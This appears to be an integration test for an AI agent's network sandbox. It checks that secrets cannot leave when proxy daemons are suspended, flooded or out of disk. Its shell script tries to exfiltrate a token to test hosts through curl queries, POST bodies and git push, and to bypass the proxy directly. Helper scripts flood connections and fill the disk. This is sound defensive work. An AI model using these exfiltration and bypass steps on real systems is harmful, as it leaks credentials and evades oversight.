"""With a daemon that hangs or is flooded, or with a full disk, nothing gets further than with all four up (W19).

What the agent attempts is the same in each state. The answer that it gets may be none, and never a better one.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from functools import partial
from typing import Any

import pytest

from tests.integration.support.image import (
    DAEMONS,
    ENGINES,
    GITHUB_TOKEN,
    POLICY,
    Bottle,
    bottle,
    check,
    eventually,
)

pytestmark = pytest.mark.docker

ASKED = """
[[egress.hosts]]
host = "a.wild.test"
private = true
on_secret = "ask"
"""
WITH_ALL_UP = {"allowed", "push"}

# The names of the attempts that succeeded. $1 marks the state in whatever the origin may see, $2 is a secret and $3 the
# address of the origin.
_ATTEMPTS = """
attempt() { name=$1; shift; timeout 20 "$@" > /tmp/said-$name 2>&1 && echo $name; }
push() {
    git init -q -b $1 /tmp/$1 && cd /tmp/$1 && echo "$2" > file && git add file \
        && git -c user.name=a -c user.email=a@test commit -q -m file && git push git://sidecars/demo HEAD
}
export -f push
for kind in push secret-push; do rm -rf /tmp/$1-$kind; done
proxied="curl -sf --cacert /tmp/ca.pem --proxy http://sidecars:8888"
attempt allowed $proxied https://origin.test/$1-allowed &
attempt denied $proxied https://denied.test/$1-denied &
attempt secret $proxied "https://origin.test/$1-secret?token=$2" &
attempt body $proxied -d "token=$2" https://origin.test/$1-body &
attempt asked $proxied "https://a.wild.test/$1-asked?token=$2" &
attempt direct curl -sf --noproxy '*' http://$3/$1-direct &
attempt egress curl -sf --noproxy '*' http://sidecars:9099/health &
attempt past curl -sf --cacert /tmp/ca.pem --proxy http://sidecars:9098 https://origin.test/$1-past &
attempt push bash -c "push $1-push 'nothing that is secret'" &
attempt secret-push bash -c "push $1-secret-push $2" &
wait
"""


@pytest.fixture(scope="module", params=ENGINES)
def running(
    request: pytest.FixtureRequest, bundle_image: str, agent_image: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Bottle]:
    """A healthy bottle whose /run can be filled. Each test leaves it as it was."""
    images, stage = (bundle_image, agent_image), tmp_path_factory.mktemp("stage")
    with bottle(*images, stage, POLICY + ASKED, engine=request.param, run_mode="0755,size=32m") as started:
        yield started


def succeeding(running: Bottle, state: str) -> set[str]:
    """What of the attempts succeeds, which the origin's word must bear out."""
    origin = running.origin.get_wrapped_container()
    origin.reload()
    (attributes,) = origin.attrs["NetworkSettings"]["Networks"].values()
    facts = (state, GITHUB_TOKEN, attributes["IPAddress"])
    succeeded = set(check(running.agent, "bash", "-c", _ATTEMPTS, "attempts", *facts).split())
    said = origin.logs().decode()
    # The head of a request may arrive whose body is refused as it streams. The secret in it does not.
    assert GITHUB_TOKEN not in said
    arrived = {kind for kind in ("denied", "secret", "asked", "direct", "past") if f"/{state}-{kind}" in said}
    assert not arrived
    return succeeded


@contextmanager
def suspended(running: Bottle, daemon: str) -> Iterator[None]:
    """The daemon does nothing any more, and its port still takes connections."""
    signal = partial(check, running.bundle.container, "python3", "-I", "-m", "bottle_init", "ctl", "signal", daemon)
    signal("STOP")
    try:
        yield
    finally:
        signal("CONT")


_FLOOD = """
import os, resource, socket, time
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
held = []
for port in (8888, 9418, 9100):
    failed = 0
    for _ in range(1500):
        try:
            held.append(socket.create_connection(("sidecars", port), timeout=2))
            held[-1].send(b"G")
        except OSError:
            failed += 1
            if failed == 20:
                break
with open("/tmp/new", "w") as file:
    file.write(str(os.getpid()))
os.rename("/tmp/new", "/tmp/flooding")
time.sleep(3600)
"""


@contextmanager
def flooded(running: Bottle) -> Iterator[None]:
    """More connections than any of the daemons serves are held open by the agent, each in the middle of a request."""
    client: Any = running.agent.get_wrapped_container().client
    check(running.agent, "rm", "-f", "/tmp/flooding")
    started = client.api.exec_create(running.agent.get_wrapped_container().id, ["python3", "-c", _FLOOD])
    client.api.exec_start(started["Id"], detach=True)
    try:
        eventually(lambda: "flooding" in check(running.agent, "ls", "/tmp"), "the flood")
        yield
    finally:
        check(running.agent, "sh", "-c", "kill $(cat /tmp/flooding)")


_FILL = """
with open("/run/fill", "wb", buffering=0) as file:
    for size in (1 << 20, 1 << 12, 1):
        try:
            while file.write(b"x" * size):
                pass
        except OSError:
            pass
"""


@contextmanager
def filled(running: Bottle) -> Iterator[None]:
    """Not a byte can be written any more where the daemons keep what they know."""
    check(running.bundle.container, "python3", "-I", "-c", _FILL)
    try:
        yield
    finally:
        check(running.bundle.container, "rm", "/run/fill")


def test_what_gets_through_with_all_four_up(running: Bottle) -> None:
    """What the others are compared to: else an attempt that never succeeds would show nothing."""
    assert succeeding(running, "up") == WITH_ALL_UP


STATES: dict[str, Callable[[Bottle], AbstractContextManager[None]]] = {
    **{f"without-{daemon}": partial(suspended, daemon=daemon) for daemon in DAEMONS},
    "flooded": flooded,
    "full": filled,
}


@pytest.mark.parametrize("state", STATES)
def test_nothing_gets_further(running: Bottle, state: str) -> None:
    """Held by each proxy's being the only way to the next, and by refusing what can't be judged or asked about."""
    with STATES[state](running):
        assert succeeding(running, state) <= WITH_ALL_UP
    eventually(lambda: running.curl(f"https://origin.test/after-{state}")[0] == 200, "the bottle as it was")
    running.bundle.wait_healthy()
